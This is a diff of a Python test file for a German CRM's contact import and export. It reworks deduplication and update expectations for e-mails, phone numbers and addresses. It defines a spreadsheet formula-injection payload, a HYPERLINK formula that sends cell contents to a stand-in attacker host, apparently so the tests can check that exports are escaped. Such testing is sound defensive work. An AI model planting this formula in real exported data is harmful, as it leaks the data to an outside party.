@@ -8,12 +8,12 @@ import pytest
 from click.testing import CliRunner
 from sqlalchemy import delete, func, select
 
-from kundenakte.core.exchange import ContactRecord, read_records
 from kundenakte.cli_exchange import exchange_group, register
+from kundenakte.core.exchange import ContactRecord, read_records
 from kundenakte.core.exchange.exporter import export_contacts, iter_records
 from kundenakte.core.exchange.importer import apply_import, plan_import
-from kundenakte.core.models import Company, Contact, IndexQueue, User
-from kundenakte.core.users import create_user
+from kundenakte.core.models import Company, Contact, IndexQueue
+from tests.exchange.people import add_people
 
 DATA = Path(__file__).parent / "data"
 INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'
@@ -88,21 +88,31 @@ def test_reimport_skips_duplicates_and_updates_changes(ka) -> None:  # type: ign
     by_name = {i.record.last_name: i for i in plan.items}
     assert by_name["Groß"].action == "skip"  # A.Gross@… in another case, nothing new
     assert by_name["Groß"].reason.startswith(f"Dublette: gleiche E-Mail wie Kontakt #{gross_id}")
-    assert by_name["Weiß"].action == "skip"  # everything the card says is known already
-    assert result.updated == 0 and result.created == 3
+    # the card brings a private e-mail address, a mobile number and a note: added, nothing replaced
+    assert by_name["Weiß"].action == "update"
+    assert by_name["Weiß"].reason.endswith("ändert E-Mail-Adressen, Telefonnummern, Notizen")
+    assert result.updated == 1 and result.created == 3
+    with ka.db.read() as s:
+        weiss = s.get(Contact, weiss_id)
+        assert [p.value for p in weiss.emails] == ["juergen.weiss@mueller-soehne.de", "juergen@privat.example"]
+        assert [(p.value, p.kind) for p in weiss.phones] == [("+49 89 123456", "work"), ("0170 1234", "mobile")]
+        assert weiss.email == "juergen.weiss@mueller-soehne.de" and weiss.phone == "+49 89 123456"
     changed = ContactRecord(last_name="Weiss", first_name="Jürgen", email="JUERGEN.WEISS@mueller-soehne.de",
                             phone="+49 89 999", city="München", gender="unknown", title="")
     plan = _plan(ka, [changed])
     (item,) = plan.items
     assert item.action == "update" and item.contact_id == weiss_id
-    assert item.reason == f"Dublette: gleiche E-Mail wie Kontakt #{weiss_id} – ändert Telefon, Ort"
+    # "München" alone is the company's address the contact uses: no new address
+    assert item.reason == f"Dublette: gleiche E-Mail wie Kontakt #{weiss_id} – ändert Telefonnummern"
     apply_import(ka, plan)
     with ka.db.read() as s:
         contact = s.get(Contact, weiss_id)
-        # "Weiss" is only another spelling of "Weiß": the existing one stays
-        assert (contact.last_name, contact.phone, contact.city) == ("Weiß", "+49 89 999", "München")
+        # "Weiss" is only another spelling of "Weiß": the existing one stays; the new number is added
+        assert (contact.last_name, contact.phone, contact.use_company_address) == ("Weiß", "+49 89 123456", True)
+        assert contact.company.city == "München" and contact.addresses == []
+        assert [p.value for p in contact.phones] == ["+49 89 123456", "0170 1234", "+49 89 999"]
         assert contact.gender == "male" and contact.title == "Dr."  # unknown and empty never overwrite
-        assert contact.name_folded == "juergen weiss" and contact.city_folded == "muenchen"
+        assert contact.name_folded == "juergen weiss"
         assert contact.company.name == "Müller & Söhne GmbH"
         assert f"contact:{weiss_id}" in set(s.scalars(select(IndexQueue.object_key)))
 
@@ -123,9 +133,9 @@ def test_duplicate_by_name_and_company_and_namesakes(ka) -> None:  # type: ignor
     apply_import(ka, plan)
     plan = _plan(ka, [records[1]])
     (item,) = plan.items
-    assert item.action == "update" and item.changes == ["Telefon"]
+    assert item.action == "update" and item.changes == ["Telefonnummern"]  # "2" is added to "1"
     plan = _plan(ka, [records[1]], update_existing=False)
-    assert plan.items[0].action == "skip" and "nicht aktualisiert (Telefon)" in plan.items[0].reason
+    assert plan.items[0].action == "skip" and "nicht aktualisiert (Telefonnummern)" in plan.items[0].reason
 
 
 def test_validation_and_unknown_manager(ka) -> None:  # type: ignore[no-untyped-def]
@@ -170,31 +180,7 @@ def test_existing_company_with_other_address_keeps_own_address(ka) -> None:  # t
 
 
 def _people(ka) -> None:  # type: ignore[no-untyped-def]
-    with ka.db.write() as s:
-        owner = create_user(s, "owner", "geheim-123", display_name="Owner", password_hash="x")
-        admin = create_user(s, "admin", "geheim-123", display_name="Admin", password_hash="x")
-        dochouse = Company(name="DOCHOUSE GmbH", street="Industriestraße 3", postal_code="97076", city="Würzburg",
-                           country="Deutschland", phone="+49 931 1", email="info@dochouse.example",
-                           web="https://dochouse.example", account_manager=admin)
-        odd = Company(name="Müller, Meier; Partner", street="Weg 1\nHof", postal_code="1010", city="Wien",
-                      country="Österreich")
-        bare = Company(name="Ohne Adresse AG", country="")
-        s.add_all([dochouse, odd, bare])
-        s.add_all([
-            Contact(gender="female", title="Dr.", first_name="Katrin", last_name="Vogel", company=dochouse,
-                    salutation_override="Liebe Katrin", language="de", position="Geschäftsführerin",
-                    email="k.vogel@dochouse.example", phone="+49 931 2", use_company_address=True,
-                    account_manager=owner),
-            Contact(gender="male", first_name="Jonas", last_name="Öztürk", company=dochouse, language="en",
-                    email="J.Oeztuerk@dochouse.example", use_company_address=False,
-                    street="Hinterhof 2\nAufgang B", postal_code="97070", city="Würzburg", country="Österreich"),
-            Contact(gender="diverse", title="Prof. Dr.", first_name="", last_name=INJECTION, position="+Chef",
-                    phone="-1", salutation_override="@home", street="Gartenweg 3", postal_code="50667",
-                    city="'=apostroph", country="Deutschland", use_company_address=True),
-            Contact(gender="unknown", first_name="Großherzog", last_name="Weiß-Straße", company=odd,
-                    email="gross@example.at", use_company_address=True, street="Alte Adresse 9", city="Graz"),
-            Contact(first_name="Bernd", last_name="Ohne", company=bare, use_company_address=False),
-        ])
+    add_people(ka)
 
 
 def _snapshot(ka) -> list[ContactRecord]:  # type: ignore[no-untyped-def]
